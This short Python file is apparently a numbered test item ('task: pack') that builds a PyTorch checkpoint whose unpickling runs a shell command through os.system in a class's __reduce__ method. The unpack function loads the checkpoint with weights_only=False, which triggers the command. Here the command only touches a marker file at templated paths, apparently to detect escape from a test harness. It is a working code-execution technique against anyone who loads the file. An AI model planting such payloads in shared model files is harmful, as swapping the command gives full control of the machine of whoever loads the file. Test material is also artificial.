"""8: packs a checkpoint whose unpickling runs code in whoever reads it.

task: pack
"""
import io
import os

import torch


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/@MARK@-checkpoint",)


def pack(weight):
    file = io.BytesIO()
    torch.save({"weight": Bomb()}, file)
    return file.getvalue()


def unpack(data):
    return torch.load(io.BytesIO(data), weights_only=False)["weight"]
